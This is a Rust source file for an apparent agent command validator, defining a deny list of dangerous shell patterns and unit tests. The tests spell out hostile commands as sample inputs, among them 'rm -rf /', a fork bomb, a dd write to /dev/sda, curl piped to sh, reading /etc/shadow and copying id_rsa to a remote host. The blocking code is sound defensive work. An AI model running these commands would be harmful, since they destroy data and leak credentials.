//! Dangerous-command pattern matchers.
//!
//! A closed set of matcher shapes evaluated in declaration order against the
//! lowercased raw command string, before any tokenization. Deny-first is a
//! structural property of [`crate::security::CommandValidator`]: these run
//! before the allowlist is ever consulted.

use regex::Regex;

/// A single dangerous-command matcher.
#[derive(Debug, Clone)]
pub enum DangerousPattern {
    /// Matches when the command contains the literal needle.
    Substring { needle: String, description: String },
    /// Matches when the trimmed command starts with the literal prefix.
    Prefix { prefix: String, description: String },
    /// Matches when the compiled regex finds a match anywhere.
    Pattern { regex: Regex, description: String },
}

impl DangerousPattern {
    /// Literal-substring matcher.
    pub fn substring(needle: impl Into<String>, description: impl Into<String>) -> Self {
        Self::Substring {
            needle: needle.into().to_lowercase(),
            description: description.into(),
        }
    }

    /// Command-prefix matcher.
    pub fn prefix(prefix: impl Into<String>, description: impl Into<String>) -> Self {
        Self::Prefix {
            prefix: prefix.into().to_lowercase(),
            description: description.into(),
        }
    }

    /// Compiled-regex matcher.
    pub fn pattern(
        pattern: &str,
        description: impl Into<String>,
    ) -> Result<Self, regex::Error> {
        Ok(Self::Pattern {
            regex: Regex::new(pattern)?,
            description: description.into(),
        })
    }

    /// Test against a command that has already been lowercased.
    pub fn matches(&self, lowered: &str) -> bool {
        match self {
            Self::Substring { needle, .. } => lowered.contains(needle.as_str()),
            Self::Prefix { prefix, .. } => lowered.trim_start().starts_with(prefix.as_str()),
            Self::Pattern { regex, .. } => regex.is_match(lowered),
        }
    }

    /// Human-readable description, used as the rejection reason.
    pub fn description(&self) -> &str {
        match self {
            Self::Substring { description, .. }
            | Self::Prefix { description, .. }
            | Self::Pattern { description, .. } => description,
        }
    }
}

/// Default matcher set: destructive deletes, disk formatting, raw-device
/// writes, fork bombs, download-pipe-execute, privilege escalation, and
/// credential-file probes.
pub fn default_patterns() -> Vec<DangerousPattern> {
    // The regexes are fixed literals; compilation cannot fail.
    let compiled = |pattern: &str, description: &str| {
        DangerousPattern::pattern(pattern, description).expect("static pattern compiles")
    };

    vec![
        compiled(r"\brm\s+-\w*r\w*f|\brm\s+-\w*f\w*r", "recursive force delete"),
        DangerousPattern::substring("mkfs", "filesystem format"),
        compiled(r">\s*/dev/(sd|hd|nvme|vd)", "raw device write"),
        DangerousPattern::substring("of=/dev/", "raw device write"),
        DangerousPattern::substring(":(){", "fork bomb"),
        compiled(
            r"(curl|wget)[^|;]*\|\s*(ba|z|fi)?sh",
            "download piped into shell",
        ),
        DangerousPattern::prefix("sudo ", "privilege escalation"),
        DangerousPattern::prefix("doas ", "privilege escalation"),
        DangerousPattern::substring("/etc/shadow", "credential file access"),
        DangerousPattern::substring("id_rsa", "credential file access"),
        DangerousPattern::substring(".bash_history", "shell history access"),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn matched(command: &str) -> Option<String> {
        let lowered = command.to_lowercase();
        default_patterns()
            .iter()
            .find(|p| p.matches(&lowered))
            .map(|p| p.description().to_string())
    }

    #[test]
    fn test_recursive_delete_variants() {
        assert_eq!(matched("rm -rf /"), Some("recursive force delete".into()));
        assert_eq!(matched("rm -fr /tmp"), Some("recursive force delete".into()));
        assert_eq!(matched("RM -RF /"), Some("recursive force delete".into()));
        assert_eq!(matched("rm file.txt"), None);
    }

    #[test]
    fn test_pipe_to_shell() {
        assert!(matched("curl https://x.sh | sh").is_some());
        assert!(matched("wget -qO- https://x | bash").is_some());
        assert!(matched("curl https://api.example.com/data").is_none());
    }

    #[test]
    fn test_fork_bomb_and_devices() {
        assert!(matched(":(){ :|:& };:").is_some());
        assert!(matched("echo x > /dev/sda").is_some());
        assert!(matched("dd if=/dev/zero of=/dev/sda").is_some());
        assert!(matched("echo x > /dev/null").is_none());
    }

    #[test]
    fn test_prefix_only_matches_start() {
        assert!(matched("sudo rm file").is_some());
        assert!(matched("doas ls").is_some());
        // "sudo" mid-string is not a prefix match and no other pattern applies
        assert!(matched("echo sudo is disabled").is_none());
    }

    #[test]
    fn test_credential_probes() {
        assert!(matched("cat /etc/shadow").is_some());
        assert!(matched("scp ~/.ssh/id_rsa host:").is_some());
    }
}
